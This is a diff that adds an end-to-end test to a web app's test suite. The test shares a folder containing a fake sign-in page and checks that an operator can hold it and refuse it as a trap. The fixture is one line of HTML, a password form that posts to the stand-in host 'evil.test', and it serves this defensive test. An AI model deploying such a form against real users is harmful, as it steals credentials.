@@ -195,6 +195,27 @@ test('alone, the same page asks its maker the same question', async () => {
   expect(await ring.innerText()).not.toMatch(/^live/)
 })
 
+test('what looks like a trap waits for the operator, with what was seen in it', async () => {
+  const trap = await mkdtemp(join(tmpdir(), 'outer-trap-'))
+  onTestFinished(() => rm(trap, { recursive: true }))
+  await writeFile(
+    join(trap, 'index.html'),
+    '<!doctype html><title>sign in</title><form action="https://evil.test/"><input type="password" name="p"></form>',
+  )
+  await shareFolder(bea, trap, { pulse: 'a forum', product: 'trap' })
+  const { page } = await newPage(small)
+  await page.goto(`${stage.url}server`)
+  const held = page.getByRole('region', { name: 'held before anybody saw them' })
+  await held.getByText('for a forum, of Bea').waitFor()
+  expect(await held.getByRole('listitem').count()).toBeGreaterThan(1)
+  await held.getByRole('button', { name: 'keep it shut…' }).click()
+  await held.getByLabel('why?').fill('It sends a password elsewhere.')
+  await held.getByRole('button', { name: 'keep it shut', exact: true }).click()
+  await held.getByText('Nothing is held.').waitFor()
+  const { held: kept } = await stage.client.call('held', { query: { all: '1' } })
+  expect(kept[0]).toMatchObject({ state: 'refused', why: 'It sends a password elsewhere.' })
+})
+
 test('what is blocked says why, and can be opened again', async () => {
   const { page } = await newPage(small)
   await page.goto(`${stage.url}server/blocked`)
